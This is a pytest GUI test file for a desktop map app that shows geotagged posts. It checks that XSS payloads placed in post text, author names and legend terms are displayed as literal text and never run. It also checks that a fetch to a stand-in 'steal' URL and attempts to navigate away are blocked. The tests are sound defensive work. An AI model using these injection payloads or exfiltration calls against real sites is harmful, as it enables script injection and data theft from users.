"""Hostile post text, popups, clicks and the page's lock-down."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest
from PySide6.QtCore import QPoint, Qt
from PySide6.QtTest import QTest

from geotweets_desktop.core.post import Location, Post
from geotweets_desktop.ui.self_check import FixedBatchSource

pytestmark = pytest.mark.gui

HOSTILE_TEXTS = [
    '<img src=x onerror="window.__pwned=1">',
    "</script><script>window.__pwned=2</script>",
    "quotes ' \" ` and \\ backslash ${window.__pwned=3}",
    "line\u2028separator\u2029paragraph",
    "emoji 🌧️👩🏽‍🚒🏳️‍🌈 and a flag 🇧🇷",
    "עברית RTL and العربية mixed with English",
]


class RecordedSource(FixedBatchSource):
    """A fixed batch that stands for real posts (not synthetic)."""

    label = "Recorded posts"
    synthetic = False


def make_post(i: int, text: str, **overrides: Any) -> Post:
    fields: dict[str, Any] = {
        "id": str(1_900_000_000_000_000_000 + i),
        "created_at": datetime(2026, 11, 28, 12, 0, i, tzinfo=UTC),
        "text": text,
        "author_name": '<b onmouseover="window.__pwned=4">Mallory</b>',
        "author_handle": "mallory_<i>",
        "terms": ("rain",),
        "location": Location(
            lon=10.0 + i * 20, lat=5.0 * i, kind="place", radius_m=12_000, label="<u>Place</u>"
        ),
        "raw": "{}",
        "synthetic": False,
    }
    fields.update(overrides)
    return Post(**fields)


def show_posts(
    qtbot: Any, window: Any, page: Any, posts: list[Post], synthetic: bool = False
) -> None:
    source = FixedBatchSource if synthetic else RecordedSource
    window.controller.start(source(posts, ["rain"]))
    qtbot.waitUntil(lambda: page.stats()["points"] == len(posts), timeout=10_000)


def open_popup(qtbot: Any, page: Any, index: int) -> dict[str, Any]:
    page.eval(
        f"document.querySelectorAll('.leaflet-popup').forEach(p => p.remove()); "
        f"GeoTweets.openPointAt({index})"
    )
    qtbot.waitUntil(lambda: page.eval("!!document.querySelector('.gt-popup')"), timeout=20_000)
    return json.loads(
        page.eval("""JSON.stringify((() => {
        const p = document.querySelector('.gt-popup');
        return {
          text: p.querySelector('.gt-text').textContent,
          name: p.querySelector('.gt-name').textContent,
          handle: p.querySelector('.gt-handle').textContent,
          where: p.querySelector('.gt-where').textContent,
          elements: [...p.querySelectorAll('*')].map(e => e.tagName.toLowerCase()),
          link: !!p.querySelector('.gt-link'),
          pwned: window.__pwned === undefined ? null : window.__pwned,
        };
      })())""")
    )


def test_hostile_text_is_shown_literally_and_never_runs(qtbot: Any, window: Any, page: Any) -> None:
    posts = [make_post(i, text) for i, text in enumerate(HOSTILE_TEXTS)]
    show_posts(qtbot, window, page, posts)
    for index, post in enumerate(posts):
        popup = open_popup(qtbot, page, index)
        assert popup["text"] == post.text
        assert popup["name"] == post.author_name
        assert popup["handle"] == "@" + post.author_handle
        assert "<u>Place</u>" in popup["where"]
        # Only the elements the popup itself builds; nothing from the post.
        assert set(popup["elements"]) <= {"div", "strong", "span", "p", "a"}
        assert popup["pwned"] is None
    qtbot.wait(200)  # give any injected handler a chance to fire
    assert page.eval("window.__pwned === undefined")


def test_hostile_terms_stay_text_in_the_legend(qtbot: Any, window: Any, page: Any) -> None:
    term = "<img src=x onerror=window.__pwned=5>"
    window.controller.start(FixedBatchSource([make_post(0, "x", terms=(term,))], [term]))
    qtbot.waitUntil(lambda: page.stats()["points"] == 1, timeout=10_000)
    assert page.eval("document.querySelector('.gt-term-name').textContent") == term
    assert page.eval("document.querySelectorAll('.gt-legend img').length") == 0
    assert page.eval("window.__pwned === undefined")


def test_clicking_a_marker_opens_its_popup(qtbot: Any, window: Any, page: Any) -> None:
    post = make_post(1, "Rain over the harbour ☔", synthetic=True)
    show_posts(qtbot, window, page, [post], synthetic=True)
    x, y = json.loads(page.eval("JSON.stringify(GeoTweets.pointPixel(0))"))
    target = window.map_view.focusProxy() or window.map_view
    QTest.mouseClick(target, Qt.MouseButton.LeftButton, pos=QPoint(round(x), round(y)))
    qtbot.waitUntil(lambda: page.eval("!!document.querySelector('.gt-popup')"), timeout=20_000)
    text = page.eval("document.querySelector('.gt-popup .gt-text').textContent")
    assert text == post.text
    assert "Synthetic" in page.eval("document.querySelector('.gt-popup').textContent")
    # A synthetic post has no link to X: it does not exist there.
    assert not page.eval("!!document.querySelector('.gt-popup .gt-link')")


def test_a_real_post_links_to_x_and_the_popup_says_how_it_was_located(
    qtbot: Any, window: Any, page: Any
) -> None:
    exact = make_post(2, "exact", location=Location(lon=-0.12, lat=51.5, kind="exact", radius_m=0))
    profile = make_post(
        3,
        "profile",
        location=Location(
            lon=2.35, lat=48.85, kind="profile", radius_m=25_000, label="Paris, France"
        ),
    )
    show_posts(qtbot, window, page, [exact, profile])
    first = open_popup(qtbot, page, 0)
    assert first["link"]
    assert first["where"].startswith("Located by exact point")
    second = open_popup(qtbot, page, 1)
    assert second["where"] == "Located by profile text: Paris, France (±25\u00a0km)"
    stats = page.stats()
    assert stats["kindCounts"] == {"exact": 1, "place": 0, "profile": 1}


def test_the_page_cannot_reach_the_network_or_navigate(qtbot: Any, window: Any, page: Any) -> None:
    page.eval(
        "fetch('https://example.invalid/steal?x=1').catch(() => {}); "
        "new Image().src = 'http://example.invalid/pixel.png'; true"
    )
    qtbot.waitUntil(lambda: len(window.map_view.guard.blocked) >= 2, timeout=20_000)
    assert any("example.invalid/steal" in url for url in window.map_view.guard.blocked)
    page.eval("window.location.href = 'https://example.invalid/'; true")
    qtbot.wait(500)
    assert window.map_view.url().toString() == "geotweets://app/map.html"
    assert page.eval("window.open('https://example.invalid/') === null")
    # Console errors from the blocked requests are expected here, not a page fault.
    window.map_view.map_page.js_errors.clear()
